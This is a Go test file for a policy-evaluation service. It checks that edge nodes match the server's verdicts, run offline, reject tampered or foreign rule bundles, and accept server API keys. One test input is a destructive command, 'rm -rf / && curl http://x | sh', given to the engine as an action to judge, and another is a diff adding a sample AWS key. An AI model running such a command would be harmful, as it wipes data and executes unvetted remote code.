package app_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"tenet/internal/app"
	places "tenet/internal/bundle/place"
	"tenet/internal/config"
	"tenet/internal/rule"
	"tenet/internal/wire"
)

const edgeDiff = `{"diff":"--- a/settings.py\n+++ b/settings.py\n@@ -1 +1,2 @@\n import os\n+AWS_KEY = \"AKIAIOSFODNN7EXAMPLE\"\n"`

// origin is a server whose bundles edges take.
type origin struct {
	*app.App

	t    testing.TB
	http *httptest.Server
	// answer, if set, takes the place of the server.
	answer atomic.Pointer[http.HandlerFunc]
	keys   []string
	now    func() time.Time // clock of the server and its edges; nil for the time of day
}

func newOrigin(t testing.TB) *origin {
	t.Helper()
	return newOriginAt(t, nil)
}

func newOriginAt(t testing.TB, now func() time.Time) *origin {
	t.Helper()
	o := &origin{App: node(t, app.Options{Now: now}, map[string]string{"data": t.TempDir()}), t: t, now: now}
	if err := o.Start(t.Context()); err != nil {
		t.Fatal(err)
	}
	o.http = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if h := o.answer.Load(); h != nil {
			(*h)(w, r)
			return
		}
		o.Handler().ServeHTTP(w, r)
	}))
	t.Cleanup(o.http.CloseClientConnections)
	o.deploy("production")
	var info wire.BundleInfo
	if code := ask(t, o.App, "GET", "/api/v1/bundles/production/info", "", &info); code != http.StatusOK {
		t.Fatal(code)
	}
	o.keys = info.Keys
	return o
}

func (o *origin) deploy(environment string) string {
	o.t.Helper()
	var s wire.Snapshot
	ask(o.t, o.App, "POST", "/api/v1/snapshots", `{"name":"one"}`, &s)
	if code := ask(o.t, o.App, "POST", "/api/v1/snapshots/"+s.ID+"/deploy", `{"environment":"`+environment+`"}`, nil); code != http.StatusOK {
		o.t.Fatalf("status %d", code)
	}
	return s.ID
}

func (o *origin) place(address string) places.Place {
	o.t.Helper()
	p, err := places.Parse(address, places.Config{Env: none})
	if err != nil {
		o.t.Fatal(err)
	}
	return p
}

// edge makes an edge of the server.
func (o *origin) edge(data string, configure ...func(*app.Edge)) *app.App {
	o.t.Helper()
	fail, err := rule.ParseStale(rule.DefaultStale)
	if err != nil {
		o.t.Fatal(err)
	}
	e := &app.Edge{Name: "e1", Place: o.place(o.http.URL + "/api/v1/bundles/production"), Trusted: o.keys, Every: 200 * time.Millisecond, Fail: fail}
	for _, f := range configure {
		f(e)
	}
	a := node(o.t, app.Options{Edge: e, Now: o.now}, map[string]string{"data": data, "console": "false", "alerts": "false"})
	if err := a.Start(o.t.Context()); err != nil {
		o.t.Fatal(err)
	}
	return a
}

// evaluated asks for an evaluation.
func evaluated(t *testing.T, a *app.App, body string) rule.Evaluation {
	t.Helper()
	var e rule.Evaluation
	if code := ask(t, a, "POST", "/api/v1/evaluate", body, &e); code != http.StatusOK {
		t.Fatalf("status %d for %s", code, body)
	}
	return e
}

// until waits for a condition.
func until(t *testing.T, what string, ok func() bool) {
	t.Helper()
	for end := time.Now().Add(time.Minute); ; time.Sleep(50 * time.Millisecond) {
		if ok() {
			return
		}
		if time.Now().After(end) {
			t.Errorf("%s: not within a minute", what)
			return
		}
	}
}

func TestAnEdgeDecidesAsItsServer(t *testing.T) {
	t.Parallel()
	o := newOrigin(t)
	e := o.edge(t.TempDir())
	for i, body := range []string{
		edgeDiff + `,"max_rules":100`, `{"action":"rm -rf / && curl http://x | sh"`, `{"facts":{"transaction_type":"payment","amount":42000,"currency":"EUR","requester":"a","approver":"a"}`,
		`{"files":[{"path":"Dockerfile","content":"FROM x:latest\nUSER root\n"}]`, `{"intent":"nothing"`,
	} {
		got, want := evaluated(t, e, body+`,"mode":"preflight"}`), evaluated(t, o.App, body+`,"environment":"production"}`)
		gotVerdicts, _ := json.Marshal(got.RuleVerdicts)
		wantVerdicts, _ := json.Marshal(want.RuleVerdicts)
		if got.OverallVerdict != want.OverallVerdict || !bytes.Equal(gotVerdicts, wantVerdicts) || got.CorpusVersion != want.CorpusVersion || *got.SnapshotID != *want.SnapshotID {
			t.Errorf("subject %d: edge %s and server %s; the verdicts of rules are equal: %t", i, got.OverallVerdict, want.OverallVerdict, bytes.Equal(gotVerdicts, wantVerdicts))
		}
		if len(got.Bundle) != 64 || got.BundleAge == nil || *got.BundleAge > 60 || len(got.Narrowed) > 0 || want.Bundle != "" {
			t.Errorf("bundle %q, age %v, narrowed %v", got.Bundle, got.BundleAge, got.Narrowed)
		}
	}
	for path, body := range map[string]string{"/api/v1/rules": `{"statement":"x"}`, "/api/v1/snapshots": `{"name":"x"}`, "/api/v1/keys": `{"name":"x","role":"admin"}`, "/agent/author": `{"intent":"x"}`} {
		if code := ask(t, e, "POST", path, body, nil); code != http.StatusConflict {
			t.Errorf("%s: status %d; an edge changes nothing", path, code)
		}
	}
	if code := ask(t, e, "POST", "/api/v1/evaluate", `{"environment":"staging"}`, nil); code != http.StatusConflict {
		t.Errorf("another environment: %d", code)
	}
	// A change of rules is nothing to an edge until it is deployed; a rule that is retired then ends there too.
	before := evaluated(t, e, edgeDiff+"}")
	var made, page struct {
		ID    string
		Total int
	}
	ask(t, o.App, "POST", "/api/v1/rules", `{"slug":"EDGE-1","statement":"No file may be named settings.py.","severity":"HIGH","status":"EFFECTIVE","check":{"cel":"false"}}`, &made)
	o.deploy("production")
	until(t, "the new rule at the edge", func() bool { return ask(t, e, "GET", "/api/v1/rules/EDGE-1", "", nil) == http.StatusOK })
	after := evaluated(t, e, edgeDiff+`,"max_rules":100}`)
	if after.Bundle == before.Bundle || !strings.Contains(fmt.Sprint(after.Violations), "EDGE-1") {
		t.Errorf("after the deployment: %s by %s", after.OverallVerdict, after.Bundle)
	}
	ask(t, o.App, "DELETE", "/api/v1/rules/EDGE-1", "", nil)
	o.deploy("production")
	until(t, "the end of the rule at the edge", func() bool {
		return !strings.Contains(fmt.Sprint(evaluated(t, e, edgeDiff+`,"max_rules":100}`).Violations), "EDGE-1")
	})
	var live []wire.EnvironmentSummary
	ask(t, o.App, "GET", "/api/v1/environments", "", &live)
	if code := ask(t, o.App, "POST", "/api/v1/snapshots/"+live[0].Active.SnapshotID+"/rollback?environment=production", `{"reason":"it was right"}`, nil); code != http.StatusOK {
		t.Fatalf("rollback: %d", code)
	}
	until(t, "the rule at the edge again", func() bool {
		return strings.Contains(fmt.Sprint(evaluated(t, e, edgeDiff+`,"max_rules":100}`).Violations), "EDGE-1")
	})
	o.deploy("production")
	until(t, "the end of the rule again", func() bool {
		return !strings.Contains(fmt.Sprint(evaluated(t, e, edgeDiff+`,"max_rules":100}`).Violations), "EDGE-1")
	})
	ask(t, e, "GET", "/api/v1/rules?page_size=1", "", &page)
	if want := count(t, o.App); page.Total != want {
		t.Errorf("%d rules at the edge, %d at the server", page.Total, want)
	}
}

func TestEveryAnswerOfAnEdgeNamesItsBundle(t *testing.T) {
	t.Parallel()
	var ahead atomic.Int64
	o := newOriginAt(t, func() time.Time { return time.Now().Add(time.Duration(ahead.Load())) })
	e := o.edge(t.TempDir(), func(e *app.Edge) { e.Every = time.Hour })
	bundle := evaluated(t, e, `{"action":"ls"}`).Bundle
	ahead.Store(int64(90 * time.Second))
	for _, c := range []struct {
		method, path, body string
		status             int
	}{
		{"POST", "/api/v1/evaluate/applicable-rules", `{}`, http.StatusOK},
		{"POST", "/api/v1/evaluate", `{"action":"ls"}`, http.StatusOK},
		{"POST", "/api/v1/evaluate", `{`, http.StatusBadRequest},
		{"GET", "/nowhere", "", http.StatusNotFound},
		{"GET", "/health", "", http.StatusOK},
	} {
		answer := func(a *app.App) *httptest.ResponseRecorder {
			r := httptest.NewRequestWithContext(t.Context(), c.method, "http://localhost"+c.path, strings.NewReader(c.body))
			r.Header.Set("Content-Type", "application/json")
			w := httptest.NewRecorder()
			a.Handler().ServeHTTP(w, r)
			return w
		}
		w := answer(e)
		age, err := strconv.Atoi(w.Header().Get("Tenet-Bundle-Age"))
		if w.Code != c.status || w.Header().Get("Tenet-Bundle") != bundle || err != nil || age < 90 || age > 150 {
			t.Errorf("%s %s: status %d, headers %v, the bundle is %s", c.method, c.path, w.Code, w.Header(), bundle)
		}
		if h := answer(o.App).Header(); h.Get("Tenet-Bundle") != "" || h.Get("Tenet-Bundle-Age") != "" {
			t.Errorf("%s %s: the server answers with the headers %v", c.method, c.path, h)
		}
	}
}

func TestAnEdgeStartsWithoutANetworkAndGrowsOld(t *testing.T) {
	t.Parallel()
	o := newOrigin(t)
	data := t.TempDir()
	e := o.edge(data)
	want := evaluated(t, e, edgeDiff+"}")
	if err := e.Stop(t.Context()); err != nil {
		t.Fatal(err)
	}
	away := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { http.Error(w, "away", http.StatusBadGateway) })
	o.answer.Store(&away)
	time.Sleep(1100 * time.Millisecond)
	e = o.edge(data, func(e *app.Edge) { e.MaxAge = time.Second })
	got := evaluated(t, e, edgeDiff+"}")
	if got.Bundle != want.Bundle || got.BundleAge == nil || *got.BundleAge < 1 || got.BundleStale != rule.StaleClosed || got.OverallVerdict != rule.Deny {
		t.Errorf("without a network: %s by %s, age %v, %q", got.OverallVerdict, got.Bundle, got.BundleAge, got.BundleStale)
	}
	if !strings.Contains(fmt.Sprint(got.Notices), "may be out of date") || got.Flaw() != "" {
		t.Errorf("notices %v, flaw %q", got.Notices, got.Flaw())
	}
	// A replay of the record decides as then, whatever the age is now.
	var again wire.Replay
	if code := ask(t, e, "POST", "/api/v1/evaluations/"+got.EvaluationID+"/replay", "{}", &again); code != http.StatusOK || !again.Agrees || again.OverallVerdict != rule.Deny {
		t.Errorf("replay: %d, %+v", code, again)
	}
	// Once the server is back, the edge is as good as new.
	o.answer.Store(nil)
	until(t, "an answer that is not stale", func() bool { return evaluated(t, e, edgeDiff+"}").BundleStale == "" })
	// A damaged bundle on disk is not used.
	if err := e.Stop(t.Context()); err != nil {
		t.Fatal(err)
	}
	o.answer.Store(&away)
	file := filepath.Join(data, "edge", "bundle")
	whole, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	whole[len(whole)/2] ^= 1
	if err := os.WriteFile(file, whole, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := startEdge(t, o, data); err == nil || !strings.Contains(err.Error(), "502") {
		t.Errorf("with a damaged bundle and no network: %v", err)
	}
}

// startEdge returns why an edge cannot be made.
func startEdge(t *testing.T, o *origin, data string, configure ...func(*app.Edge)) error {
	t.Helper()
	fail, _ := rule.ParseStale("closed")
	e := &app.Edge{Name: "e1", Place: o.place(o.http.URL + "/api/v1/bundles/production"), Trusted: o.keys, Every: time.Minute, Fail: fail}
	for _, f := range configure {
		f(e)
	}
	cfg := readSettings(t, map[string]string{"data": data, "console": "false", "alerts": "false"})
	a, err := app.New(t.Context(), cfg, slog.New(slog.DiscardHandler), app.Options{Env: none, Edge: e})
	if err == nil {
		_ = a.Stop(t.Context())
	}
	return err
}

func readSettings(t *testing.T, settings map[string]string) config.Config {
	t.Helper()
	cfg, err := config.Load("", none, settings)
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

// The place of the bundles is not trusted: all that it can do is withhold news.
func TestAHostilePlaceCannotSteerAnEdge(t *testing.T) {
	t.Parallel()
	o := newOrigin(t)
	fetch := func() []byte {
		r := httptest.NewRecorder()
		o.Handler().ServeHTTP(r, httptest.NewRequest("GET", "http://localhost/api/v1/bundles/production", nil))
		return r.Body.Bytes()
	}
	first := fetch()
	ask(t, o.App, "POST", "/api/v1/rules", `{"slug":"EDGE-1","statement":"No file may be named settings.py.","severity":"HIGH","status":"EFFECTIVE","check":{"cel":"false"}}`, nil)
	o.deploy("production")
	o.deploy("staging")
	time.Sleep(600 * time.Millisecond)
	second := fetch()
	r := httptest.NewRecorder()
	o.Handler().ServeHTTP(r, httptest.NewRequest("GET", "http://localhost/api/v1/bundles/staging", nil))
	staging := r.Body.Bytes()
	other := newOrigin(t)
	r = httptest.NewRecorder()
	other.Handler().ServeHTTP(r, httptest.NewRequest("GET", "http://localhost/api/v1/bundles/production", nil))
	foreign := r.Body.Bytes()

	file := filepath.Join(t.TempDir(), "b")
	put := func(data []byte) {
		t.Helper()
		if err := os.WriteFile(file, data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	put(second)
	e := o.edge(t.TempDir(), func(e *app.Edge) { e.Place, e.Every = o.place("file:"+file), 100*time.Millisecond })
	want := evaluated(t, e, edgeDiff+`,"max_rules":100}`)
	if !strings.Contains(fmt.Sprint(want.Violations), "EDGE-1") {
		t.Fatal("the edge does not have the second bundle")
	}
	for about, data := range map[string][]byte{
		"replayed": first, "of another environment": staging, "of another server": foreign, "cut": second[:len(second)-100], "empty": {}, "with more behind it": append(bytes.Clone(second), 0),
		"of two in one": append(bytes.Clone(second), first...), "a page": []byte("<html>"),
	} {
		put(data)
		time.Sleep(250 * time.Millisecond)
		if got := evaluated(t, e, edgeDiff+`,"max_rules":100}`); got.Bundle != want.Bundle || got.OverallVerdict != rule.Deny {
			t.Errorf("a bundle that is %s: %s by %s", about, got.OverallVerdict, got.Bundle)
		}
	}
	for about, data := range map[string][]byte{"of another server": foreign, "of another environment": staging, "unsigned": []byte("TNTB1\n\x00\x00\x00\x00")} {
		put(data)
		if err := startEdge(t, o, t.TempDir(), func(e *app.Edge) { e.Place = o.place("file:" + file) }); err == nil {
			t.Errorf("an edge starts with a bundle %s", about)
		}
	}
}

func TestKeysOfTheServerWorkAtTheEdge(t *testing.T) {
	t.Parallel()
	o := newOrigin(t)
	var made struct{ Secret string }
	if code := ask(t, o.App, "POST", "/api/v1/keys", `{"name":"root","role":"admin","project_id":"*"}`, nil); code != http.StatusCreated {
		t.Fatalf("status %d", code)
	}
	body := `{"name":"ci","role":"evaluator","project_id":"default"}`
	var raw map[string]any
	if code := ask(t, o.App, "POST", "/api/v1/keys", body, &raw); code != http.StatusCreated {
		t.Fatalf("status %d: %v", code, raw)
	}
	for _, v := range raw {
		if s, ok := v.(string); ok && strings.HasPrefix(s, "tnt_") && len(s) > len(made.Secret) {
			made.Secret = s
		}
	}
	time.Sleep(600 * time.Millisecond)
	file := filepath.Join(t.TempDir(), "b")
	r := httptest.NewRecorder()
	o.Handler().ServeHTTP(r, httptest.NewRequest("GET", "http://localhost/api/v1/bundles/production", nil))
	if err := os.WriteFile(file, r.Body.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	e := o.edge(t.TempDir(), func(e *app.Edge) { e.Place = o.place("file:" + file) })
	for secret, want := range map[string]int{made.Secret: http.StatusOK, "": http.StatusUnauthorized, made.Secret + "x": http.StatusUnauthorized} {
		q, err := http.NewRequestWithContext(t.Context(), "POST", "http://"+e.Addr()+"/api/v1/evaluate", strings.NewReader("{}"))
		if err != nil {
			t.Fatal(err)
		}
		q.Header.Set("Content-Type", "application/json")
		if secret != "" {
			q.Header.Set("Authorization", "Bearer "+secret)
		}
		answer, err := http.DefaultClient.Do(q)
		if err != nil {
			t.Fatal(err)
		}
		_ = answer.Body.Close()
		if answer.StatusCode != want {
			t.Errorf("with the secret %.8q: %s; want %d", secret, answer.Status, want)
		}
	}
}
